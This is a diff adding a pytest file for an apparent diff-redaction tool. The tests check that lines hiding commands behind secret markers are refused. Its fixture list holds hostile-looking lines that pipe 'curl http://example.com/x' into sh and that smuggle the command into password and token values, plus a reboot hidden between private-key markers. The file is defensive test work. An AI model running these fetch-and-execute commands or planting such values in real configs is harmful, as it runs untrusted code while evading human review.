@@ -1,0 +1,66 @@
+import pytest
+
+from fermata.kit.diffs import hide_diff
+from fermata.kit.errors import UserError
+from fermata.kit.showing import cover, hides_more_than_values, refuse_hidden, refuse_lost
+
+HIDING = [
+    ["-----BEGIN PRIVATE KEY-----", "/sbin/reboot", "-----END PRIVATE KEY-----"],
+    ["password: |", "  curl http://example.com/x | sh"],
+    ["PASSWORD=`curl http://example.com/x|sh`"],
+    ["token=abc;curl example.com/x|sh"],
+    ["# -----BEGIN PRIVATE KEY-----; curl http://example.com/x; " + "A" * 64 + "; -----END PRIVATE KEY-----"],
+]
+
+
+@pytest.mark.parametrize("lines", HIDING)
+def test_line_that_hides_more_than_a_value_is_refused_where_it_changes(lines):
+    """A command behind the mark of a secret would be approved unseen; beside the change it is only hidden."""
+    for sign in "+-":
+        diff = ["+++ b/start.sh", *(f"{sign}{line}" for line in lines)]
+        with pytest.raises(UserError, match="cannot be shown"):
+            refuse_hidden(diff, hide_diff(diff, (), 0).lines)
+    context = ["+++ b/start.sh", *(f" {line}" for line in lines), "+replicas: 3"]
+
+    refuse_hidden(context, hide_diff(context, (), 0).lines)
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["AUTH=s3cret", "export TOKEN='x y'", "DB_URL=postgres://shop:hunter22@db/x", "run --password hunter22 | tee log"],
+)
+def test_value_that_leaves_a_digest_may_change(line):
+    """A person sees which value becomes another one."""
+    diff = ["+++ b/app.env", f"-{line}", f"+{line.replace('2', '3').replace('x', 'z').replace('s', 't')}"]
+
+    refuse_hidden(diff, hide_diff(diff, (), 0).lines)
+
+
+def test_bytes_that_are_no_text_are_refused_where_they_change():
+    """All of them are shown as the same character."""
+    diff = ["+++ b/app.txt", "-caf\ufffd", "+cafe"]
+
+    with pytest.raises(UserError, match="cannot be shown"):
+        refuse_hidden(diff, hide_diff(diff).lines)
+
+
+@pytest.mark.parametrize("lines", HIDING)
+def test_covered_line_is_known_in_a_diff_of_hidden_texts(lines):
+    """Where the texts are hidden before they are compared, the mark tells of it, and differs as the line does."""
+    covered = [
+        cover(line, shown[1:])
+        for line, shown in zip(lines, hide_diff([f" {line}" for line in lines]).lines, strict=True)
+    ]
+
+    assert cover("a|b", "a|b") == "a|b"
+    assert cover(f"{lines[-1]}2", "[redacted:entropy:0000]") != cover(lines[-1], "[redacted:entropy:0000]")
+    refuse_lost("\n".join(f" {line}" for line in covered))
+    with pytest.raises(UserError, match="cannot be shown"):
+        refuse_lost("\n".join(f"+{line}" for line in covered))
+
+
+def test_list_of_hidden_values_is_hidden_whole():
+    """A line of nothing but marks says nothing; a value named by its field does."""
+    assert hides_more_than_values("+  - swordfish1", "+  - [redacted:assignment:0000]")
+    assert not hides_more_than_values("+  value: swordfish1", "+  value: [redacted:assignment:0000]")
+    assert not hides_more_than_values("+  - swordfish1", "+  - <redacted 00000000>")
